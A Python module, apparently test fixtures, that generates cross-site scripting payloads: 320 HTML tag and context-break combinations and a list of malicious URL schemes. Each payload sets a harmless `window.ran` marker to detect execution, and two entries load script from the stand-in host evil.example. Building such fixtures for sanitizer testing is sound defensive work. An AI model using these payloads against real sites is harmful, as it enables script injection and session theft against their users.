"""Texts that try to become code: in titles, names, addresses and parameters. Each would set `window.ran`."""

from itertools import product
from typing import Final

RUN: Final = "window.ran=1"

_TAGS: Final = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{}</script>",
    "<script\n>{}</script\t>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    '<img/src="x"/onerror="{}">',
    "<image src=x onerror={}>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}' autofocus onfocus={}>x</a>",
    "<form action='javascript:{}'><button autofocus onfocus={}>x</form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={}>",
    "<style onload={}></style>",
    "<marquee onstart={}>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><img src=x onerror={}></template>",
    "<xss tabindex=1 autofocus onfocus={}>x</xss>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}&#62;",
)
_BREAKS: Final = (
    "",
    '">',
    "'>",
    "</a>",
    "</title></script></style></textarea>",
    '" autofocus onfocus="window.ran=1" x="',
    "\u2028",
    "]]>",
)

MARKUP: Final = tuple(
    before + tag.replace("{{", "{").replace("}}", "}").replace("{}", RUN)
    for before, tag in product(_BREAKS, _TAGS)
)
"""320 texts, each of its own."""

ADDRESSES: Final = tuple(
    text.format(RUN)
    for text in (
        "javascript:{}",
        "JaVaScRiPt:{}",
        " javascript:{}",
        "\tjavascript:{}",
        "java\nscript:{}",
        "java\tscript:{}",
        "\x01javascript:{}",
        "javascript://news.example/%0a{}",
        "javascript:{}//http://news.example/",
        "data:text/html,<script>{}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
        "vbscript:{}",
        "view-source:javascript:{}",
        "blob:null/{}",
        "filesystem:http://news.example/{}",
        "//evil.example/{}",
        'http://news.example/"onfocus="{}"autofocus="',
        "http://news.example/'onfocus='{}'autofocus='",
        "http://news.example/><img src=x onerror={}>",
        "http://news.example/</a><script>{}</script>",
        "https://user:pw@news.example/{}",
        "http:javascript:{}",
        "http:///javascript:{}",
        "feed:javascript:{}",
        "\ufeffjavascript:{}",
        "&#106;avascript:{}",
        "javascript&colon;{}",
    )
)
